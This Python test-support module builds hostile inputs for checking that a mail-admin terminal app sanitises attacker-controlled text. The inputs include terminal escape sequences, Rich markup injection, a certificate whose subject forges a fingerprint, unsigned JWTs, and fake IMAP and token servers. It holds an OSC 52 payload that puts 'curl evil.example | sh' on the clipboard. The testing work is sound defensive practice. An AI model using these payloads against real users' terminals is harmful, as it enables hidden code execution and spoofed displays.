"""Text from outside that tries to be obeyed: Rich/Textual markup for the screen, escape sequences
for the terminal, and a line break that fakes a line of its own (issue 21, item 1).

What an attacker controls here: a mail server's greeting and answers, a SASL challenge, a token
endpoint's answer, a certificate's subject, and values stored or imported into the database. The
tests feed these strings through each path and look at the bytes the terminal (or the command
line's reader) receives: `payloads_in(data)` names every attacker sequence that got through raw.
"""

from __future__ import annotations

import base64
import datetime as dt
import hashlib
import json
import ssl
import threading
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from support.hostile import Script, Session

# tmux with `set-clipboard on` put this on the clipboard (OSC 52).
CLIPBOARD_TEXT = "curl evil.example | sh"
OSC52 = "\x1b]52;c;" + base64.b64encode(CLIPBOARD_TEXT.encode()).decode() + "\x1b\\"
TITLE = "\x1b]2;EVIL-TITLE\x07"  # sets the window title
CLEAR = "\x1b[2JEVIL-CLEAR"  # clears the screen
C1_CSI = "\x9b31mEVIL-C1"  # the 8-bit CSI: some terminals take it as ESC [
ESCAPES = OSC52 + TITLE + CLEAR + C1_CSI
# Markup Rich and Textual would obey: a closing tag that was never opened (MarkupError), a tag the
# admin would never see, a link, and colours that hide what follows.
MARKUP = "NO [AUTHENTICATIONFAILED] wrong [/b] password [link=https://evil.example]click[/link] [black on black]"
HOSTILE = MARKUP + " " + ESCAPES

# What must never reach a terminal raw: each attacker sequence as bytes (UTF-8 for the C1 CSI).
PAYLOADS = {
    "OSC 52 (clipboard)": b"\x1b]52;",
    "OSC 2 (window title)": b"\x1b]2;EVIL",
    "ESC [2J (clear)": b"\x1b[2JEVIL",
    "C1 CSI": "\x9b".encode(),
    "BEL": b"\x07EVIL",
}
# The same sequences as they show once made visible: ESC and BEL as control pictures.
SHOWN = ("␛]52;c;", "␛]2;EVIL-TITLE␇", "␛[2JEVIL-CLEAR")


def payloads_in(data: bytes) -> list[str]:
    """The attacker sequences that reached the terminal raw."""
    return [name for name, raw in PAYLOADS.items() if raw in data]


# ---------------------------------------------------------------- a certificate that lies in its subject

FAKE_FINGERPRINT = ":".join(["AB", "CD"] * 16)


def fake_fingerprint_unit() -> str:
    """An organisational unit that, shown as is, draws a SHA-256 line of its own and hides the real
    one (black on black)."""
    return f"ops\n  SHA-256 {FAKE_FINGERPRINT}\n[black on black]"


@dataclass(frozen=True)
class HostileCertificate:
    cert: Path
    key: Path
    sha256: str  # hex, lower case: the real fingerprint

    @property
    def colons(self) -> str:
        return ":".join(self.sha256[i:i + 2] for i in range(0, len(self.sha256), 2)).upper()


def hostile_certificate(folder: Path, common_name: str = "localhost", unit: str | None = None) -> HostileCertificate:
    """A self-signed certificate for 127.0.0.1 whose subject says what an attacker wants."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID
    import ipaddress

    folder.mkdir(parents=True, exist_ok=True)
    key = ec.generate_private_key(ec.SECP256R1())
    attributes = [x509.NameAttribute(NameOID.COMMON_NAME, common_name)]
    if unit is not None:
        attributes.append(x509.NameAttribute(NameOID.ORGANIZATIONAL_UNIT_NAME, unit))
    name = x509.Name(attributes)
    now = dt.datetime.now(dt.UTC)
    cert = (x509.CertificateBuilder()
            .subject_name(name).issuer_name(name).public_key(key.public_key())
            .serial_number(x509.random_serial_number())
            .not_valid_before(now - dt.timedelta(days=1)).not_valid_after(now + dt.timedelta(days=30))
            .add_extension(x509.SubjectAlternativeName([x509.IPAddress(ipaddress.ip_address("127.0.0.1"))]),
                           critical=False)
            .sign(key, hashes.SHA256()))
    cert_path, key_path = folder / "cert.pem", folder / "key.pem"
    cert_path.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    key_path.write_bytes(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                           serialization.NoEncryption()))
    return HostileCertificate(cert_path, key_path,
                              hashlib.sha256(cert.public_bytes(serialization.Encoding.DER)).hexdigest())


def tls_context(certificate: HostileCertificate) -> ssl.SSLContext:
    ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    ctx.load_cert_chain(certificate.cert, certificate.key)
    return ctx


# ---------------------------------------------------------------- mail servers that answer with it


def imap_answering(greeting: str = "* OK hostile IMAP ready", refusal: str = HOSTILE,
                   capabilities: str = "IMAP4rev1") -> Script:
    """IMAP that greets with `greeting` and refuses every login (LOGIN or AUTHENTICATE) with `refusal`.
    With AUTH=XOAUTH2 offered, a bearer login first gets a failure challenge (base64 JSON) holding
    the same text, as RFC 7628 servers send."""

    def script(s: Session) -> None:
        s.send(greeting.encode() + b"\r\n")
        while (line := s.readline()) is not None:
            tag, _, rest = line.partition(b" ")
            command = rest.split(b" ", 1)[0].upper()
            if command == b"CAPABILITY":
                s.send(f"* CAPABILITY {capabilities}\r\n".encode() + tag + b" OK done\r\n")
            elif command == b"LOGIN":
                s.send(tag + b" NO " + refusal.encode() + b"\r\n")
            elif command == b"AUTHENTICATE":
                s.send(b"+ \r\n")
                if s.readline() is None:
                    return
                reason = json.dumps({"status": "401", "schemes": "bearer", "scope": refusal})
                s.send(b"+ " + base64.b64encode(reason.encode()) + b"\r\n")
                if s.readline() is None:
                    return
                s.send(tag + b" NO " + refusal.encode() + b"\r\n")
            elif command == b"LOGOUT":
                s.send(b"* BYE\r\n" + tag + b" OK bye\r\n")
                return
            else:
                s.send(tag + b" BAD unknown command\r\n")

    return script


def imap_refusing_greeting(text: str = HOSTILE) -> Script:
    """IMAP that says BYE instead of a greeting."""

    def script(s: Session) -> None:
        s.send(b"* BYE " + text.encode() + b"\r\n")

    return script


# ---------------------------------------------------------------- a token endpoint that answers with it


class TokenEndpoint:
    """An HTTPS token endpoint on 127.0.0.1 (the certificate given; trust it through SSL_CERT_FILE)
    that answers every POST with `answer` (status, JSON body)."""

    def __init__(self, certificate, answer: tuple[int, dict]):
        self.answer = answer
        endpoint = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, format, *args):  # noqa: A002 - quiet
                pass

            def do_POST(self):  # noqa: N802 - http.server's name
                self.rfile.read(int(self.headers.get("Content-Length") or 0))
                status, body = endpoint.answer
                payload = json.dumps(body).encode()
                self.send_response(status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(payload)))
                self.end_headers()
                self.wfile.write(payload)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
        ctx.load_cert_chain(certificate.cert, certificate.key)
        self.server.socket = ctx.wrap_socket(self.server.socket, server_side=True)
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    @property
    def url(self) -> str:
        return f"https://127.0.0.1:{self.server.server_address[1]}/tenant/oauth2/v2.0/token"

    def __enter__(self) -> TokenEndpoint:
        self.thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self.server.shutdown()
        self.server.server_close()


def unsigned_jwt(claims: dict) -> str:
    """A JWT the app reads for showing (expiry, scopes, identity): it never verifies one."""
    def part(data: dict) -> str:
        return base64.urlsafe_b64encode(json.dumps(data).encode()).rstrip(b"=").decode()

    return f"{part({'alg': 'none', 'typ': 'JWT'})}.{part(claims)}."
